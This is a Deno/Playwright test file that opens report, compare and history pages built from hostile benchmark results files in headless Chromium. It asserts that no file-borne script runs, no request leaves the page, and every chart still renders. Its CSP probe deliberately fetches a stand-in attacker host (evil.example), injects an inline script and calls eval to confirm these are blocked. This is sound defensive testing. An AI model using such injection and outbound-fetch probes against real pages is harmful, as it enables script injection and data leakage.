/**
 * Browser test of report.html, compare.html and history.html built from HOSTILE results files (charts that
 * try to run a script through vega-embed's menu, usermeta embed options, descriptions, image
 * marks and links, and to load remote data, config and images): opened from file:// in
 * headless Chromium, every chart must still render, every vega-embed action is clicked, and
 * no script from the file may run (`__pwned` stays unset, no popup) and no request may leave
 * the page. It also checks the page's Content-Security-Policy is live: a fetch, an injected
 * inline script and `eval` are refused. Screenshots go to results/artifacts/ (gitignored).
 * Skips with a warning when Chromium is missing (scripts/install_chromium.sh installs it).
 */
import assert from "node:assert/strict";
import { join } from "node:path";
import type { Page } from "playwright-core";
import { compareResults } from "./compare.ts";
import { writeCompare } from "./write_compare.ts";
import { writeReport } from "./write_report.ts";
import { runStoreOf } from "./run_store.ts";
import { buildHistory } from "./history.ts";
import { writeHistory } from "./write_history.ts";
import { hostileResults, hostileSpecs } from "./fixture_results.ts";
import {
  ARTIFACTS,
  chromiumOrWarn,
  drawAllCharts,
  launchChromium,
  waitForChartsSettled,
} from "./_browser_test_util.ts";

const hasChromium = await chromiumOrWarn("hostile_browser_test");

/** URLs that never leave the page. */
const LOCAL = /^(file|data|about|blob):/;

/** Hover a mark of every chart (tooltips show file-borne text); returns how many. */
async function hoverEveryChart(page: Page): Promise<number> {
  const charts = page.locator("[data-vl-spec]");
  let n = 0;
  for (let i = 0; i < await charts.count(); i++) {
    const mark = charts.nth(i).locator("svg .role-mark path").first();
    if (!(await mark.count())) continue;
    await mark.hover({ force: true });
    await page.waitForTimeout(50);
    n++;
  }
  return n;
}

/**
 * Open every actions menu of the page and click every action in it; returns the labels.
 * The downloads the clicks start (image exports) are listed in `downloads`.
 */
async function clickEveryAction(page: Page, downloads: string[]): Promise<string[]> {
  const clicked: string[] = [];
  const menus = page.locator(".vega-embed details");
  const n = await menus.count();
  for (let i = 0; i < n; i++) {
    const menu = menus.nth(i);
    const actions = menu.locator(".vega-actions a");
    const k = await actions.count();
    for (let j = 0; j < k; j++) {
      if (!(await menu.evaluate((d) => (d as unknown as { open: boolean }).open))) {
        await menu.locator("summary").click();
      }
      const a = actions.nth(j);
      clicked.push((await a.textContent()) ?? "");
      const download = page.waitForEvent("download", { timeout: 5_000 }).catch(() => null);
      await a.click();
      const d = await download;
      if (d) downloads.push(d.suggestedFilename());
      await d?.cancel().catch(() => {});
    }
  }
  return clicked;
}

/**
 * Checks run in the page itself (a string: the test code has no DOM types): is the
 * Content-Security-Policy enforced? A fetch, an injected inline script and `eval`.
 */
const CSP_PROBE = `(async () => {
  const violations = [];
  document.addEventListener("securitypolicyviolation", (e) => violations.push(e.effectiveDirective));
  let fetched = "sent";
  try { await fetch("https://evil.example/probe"); } catch { fetched = "refused"; }
  const s = document.createElement("script");
  s.textContent = "window.__injected = 1";
  document.body.append(s);
  // eval from a later task (the probe itself runs from DevTools, which CSP exempts)
  const evaluated = await new Promise((r) => setTimeout(() => {
    try { (0, eval)("1"); r("ran"); } catch (e) { r(e.name); }
  }, 0));
  await new Promise((r) => setTimeout(r, 200));
  return { fetched, evaluated, injected: window.__injected ?? null,
    violations: [...new Set(violations)].sort() };
})()`;

Deno.test({
  name: "hostile results: report, compare and history pages run no script from the file, send no " +
    "request, and still show every chart",
  ignore: !hasChromium,
  sanitizeResources: false,
  sanitizeOps: false,
  fn: async () => {
    const tmp = await Deno.makeTempDir({ prefix: "claimbench-hostile-" });
    const a = hostileResults();
    const b = hostileResults();
    b.runId = "hostile-b";
    for (const c of Object.values(b.cases)) {
      if (c.verdict.value !== null) c.verdict.value += 0.01;
    }
    const nCharts = Object.values(a.cases).reduce((n, c) => n + c.charts.length, 0);
    assert.equal(nCharts, Object.keys(hostileSpecs()).length);
    const rep = await writeReport(a, join(tmp, "report"));
    const cmp = await writeCompare(compareResults(a, b), join(tmp, "compare"));
    // history: charts we build, but from the files' check names and labels
    const hist = buildHistory(
      await runStoreOf([{ source: "a", results: a }, { source: "b", results: b }]),
    );
    await writeHistory(hist, join(tmp, "history"));
    const expected: Record<string, number> = {
      report: nCharts,
      compare: nCharts,
      history: hist.series.length,
    };
    // Every chart still renders to a static SVG, and what was removed is said, one line each.
    for (const w of [...rep.warnings, ...cmp.warnings]) assert(!w.includes("\n"), w);
    assert(!rep.warnings.some((w) => w.includes("did not render")), rep.warnings.join("\n"));
    await Deno.mkdir(ARTIFACTS, { recursive: true });

    const { context, close } = await launchChromium();
    const requests: string[] = [];
    const popups: Page[] = [];
    context.on("request", (r) => requests.push(r.url()));
    context.on("page", (p) => popups.push(p));
    await context.route("**/*", (route) => {
      const url = route.request().url();
      return LOCAL.test(url) ? route.continue() : route.abort();
    });
    let clickedAll = 0;
    try {
      for (
        const [name, file, shot] of [
          ["report", join(tmp, "report", "report.html"), "hostile-report.png"],
          ["compare", join(tmp, "compare", "compare.html"), "hostile-compare.png"],
          ["history", join(tmp, "history", "history.html"), "hostile-history.png"],
        ] as const
      ) {
        const page = await context.newPage();
        popups.length = 0;
        const problems: string[] = [];
        page.on("console", (m) => {
          if (m.type() === "error") problems.push(`console error: ${m.text()}`);
        });
        page.on("pageerror", (e) => problems.push(`page error: ${e.message}`));
        await page.goto(`file://${file}`, { waitUntil: "load" });
        const csp = await page.evaluate(
          `document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.content ?? ""`,
        ) as string;
        assert.match(csp, /default-src 'none'/);
        assert.doesNotMatch(csp, /unsafe-eval|https?:|\*/);

        const total = await page.locator("[data-vl-spec]").count();
        const want = expected[name];
        assert(want > 0);
        assert.equal(total, want, `${name}: chart containers`);
        await drawAllCharts(page);
        await waitForChartsSettled(page, 30_000);
        const failed = await page.locator("[data-vl-spec].chart-failed").allTextContents();
        const rendered = await page.locator("[data-vl-spec] svg.marks, [data-vl-spec] canvas")
          .count();
        await page.screenshot({ path: join(ARTIFACTS, shot), fullPage: true });
        assert.deepEqual(failed, [], `${name}: charts failed`);
        assert.equal(rendered, want, `${name}: ${rendered} charts rendered of ${want}`);
        // every chart draws marks from its inline data (the sanitized spec is still a chart)
        const marks = await page.evaluate(
          `Array.from(document.querySelectorAll("[data-vl-spec]"), (el) =>
            el.querySelectorAll("svg .role-mark path").length)`,
        ) as number[];
        assert(marks.every((m) => m > 0), `${name}: marks per chart ${marks}`);

        assert.equal(await hoverEveryChart(page), want, `${name}: hovered charts`);
        const tooltipMarkup = await page.evaluate(
          `document.querySelectorAll("#vg-tooltip-element img, #vg-tooltip-element script").length`,
        );
        assert.equal(tooltipMarkup, 0, `${name}: markup from the file in a tooltip`);
        const downloads: string[] = [];
        const clicked = await clickEveryAction(page, downloads);
        // the image exports still work under the CSP: each click starts a download
        assert.equal(downloads.length, clicked.length, `${name}: downloads ${downloads}`);
        clickedAll += clicked.length;
        assert.equal(clicked.length, 2 * want, `${name}: actions ${clicked.join(", ")}`);
        assert(clicked.every((t) => /^Save as (SVG|PNG)$/.test(t)), clicked.join(", "));
        await page.waitForTimeout(300);

        const pwned = await page.evaluate("window.__pwned");
        assert.equal(pwned, undefined, `${name}: a script from the results file ran`);
        const opened = popups.filter((p) => p !== page);
        assert.deepEqual(opened.map((p) => p.url()), [], `${name}: popups opened`);
        assert.deepEqual(problems, [], `${name}: ${problems.join("; ")}`);

        const probe = await page.evaluate(CSP_PROBE);
        assert.deepEqual(probe, {
          fetched: "refused",
          evaluated: "EvalError",
          injected: null,
          violations: ["connect-src", "script-src-elem", "script-src"].sort(),
        }, `${name}: CSP probe`);
        await page.close();
      }
      const left = requests.filter((u) => !LOCAL.test(u));
      assert.deepEqual(left, [], `requests left the page: ${left.join(", ")}`);
      console.log(
        `hostile_browser_test: 3 pages from 2 hostile documents (${nCharts} hostile charts ` +
          `each, ${hist.series.length} history charts) opened, ` +
          `every chart hovered, ${clickedAll} actions clicked (each a download), ${requests.length} local requests, ` +
          "0 sent out",
      );
    } finally {
      await close();
      await Deno.remove(tmp, { recursive: true }).catch(() => {});
    }
  },
});
